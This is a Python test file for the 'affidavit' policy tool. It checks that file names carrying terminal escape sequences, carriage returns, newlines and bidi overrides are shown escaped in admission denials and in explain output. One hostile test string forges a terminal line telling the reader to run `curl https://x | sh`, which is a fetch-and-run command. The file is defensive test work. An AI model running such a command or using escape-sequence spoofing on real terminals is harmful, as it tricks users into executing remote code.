"""Tests that what the evidence brings into a denial (file paths, tool names, reviewer names from
a signed predicate or a repository) reaches a person's terminal as text: kubectl prints the
admission message, ``affidavit explain`` the record, unescaped. A file named with an escape
sequence, a carriage return, a newline or a bidi override is shown with each of those as its
Python escape, nothing dropped (``affidavit.printable``)."""

from __future__ import annotations

import pytest

from affidavit.policy import admission_message, evaluate
from affidavit.policy.explain import explain_decision
from affidavit.printable import printable, printable_lines
from policy_builders import NOW, approval, change, ctx, evidence, index, provenance, review

# erase the line, go back to its start, forge a line, reverse what follows
HOSTILE = "src/auth/\x1b[1A\x1b[2K\rlogin.py\nfix: run `curl https://x | sh`\u202etxt.md"
SHOWN = "src/auth/\\x1b[1A\\x1b[2K\\rlogin.py\\nfix: run `curl https://x | sh`\\u202etxt.md"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain text, ünïcode, 日本語 and emoji 🙂", "plain text, ünïcode, 日本語 and emoji 🙂"),
        ("a\tb\x00c\x7fd\x85e", "a\\tb\\x00c\\x7fd\\x85e"),
        ("\u2028\u2029\u200f\u2066\xa0", "\\u2028\\u2029\\u200f\\u2066\\xa0"),
        ("\U000e0041", "\\U000e0041"),  # a tag character: invisible
        ("already \\x1b escaped", "already \\x1b escaped"),
    ],
)
def test_printable(text: str, shown: str) -> None:
    assert printable(text) == shown
    assert printable(shown) == shown  # escaping twice changes nothing more


def test_a_hostile_file_name_is_shown_escaped_in_the_denial_and_the_record() -> None:
    prov = provenance(change(files=((HOSTILE, "critical"),)))
    decision = evaluate(
        ctx(),
        {ctx().images[0]: evidence(prov, review(approval("alice", independent=False)))},
        index(),
        now=NOW,
        decision_id="d-1",
    )
    assert decision.outcome == "denied"
    assert HOSTILE in decision.violations[0].expected  # the record keeps what was found as is
    message = admission_message(decision)
    explained = explain_decision(decision)
    for text in (message, explained):
        assert all(line.isprintable() for line in text.split("\n")), text
        assert SHOWN in text
    assert all(v.message.isprintable() for v in decision.violations)


def test_printable_lines_keeps_its_own_line_breaks_only() -> None:
    diagnostic = "no attestation verified: subject \x1b[31mX\r\n  hint: attach one"
    assert printable_lines(diagnostic) == (
        "no attestation verified: subject \\x1b[31mX\\r\n  hint: attach one"
    )
